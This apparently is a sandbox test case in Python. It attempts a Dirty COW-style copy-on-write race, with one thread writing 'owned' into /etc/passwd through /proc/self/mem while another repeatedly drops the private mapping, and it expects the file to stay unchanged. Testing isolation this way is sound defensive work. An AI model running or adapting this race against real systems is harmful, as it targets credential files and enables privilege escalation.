# tries: to write to a file of the image, by a private mapping that is written from two sides
# ends: completed
# within: 4
# prints: True\n
import mmap
import os
import threading

with open("/etc/passwd", "rb") as file:
    before = file.read()
    view = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    import ctypes
    address = ctypes.CDLL(None).mmap
    address.restype = ctypes.c_void_p
    place = address(None, 4096, 1, 2, file.fileno(), ctypes.c_long(0))

    def write():
        for _ in range(300):
            try:
                os.pwrite(memory, b"owned", place)
            except OSError:
                pass

    def drop():
        for _ in range(300):
            ctypes.CDLL(None).madvise(ctypes.c_void_p(place), 4096, 4)

    threads = [threading.Thread(target=each) for each in (write, drop)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
print(open("/etc/passwd", "rb").read() == before)
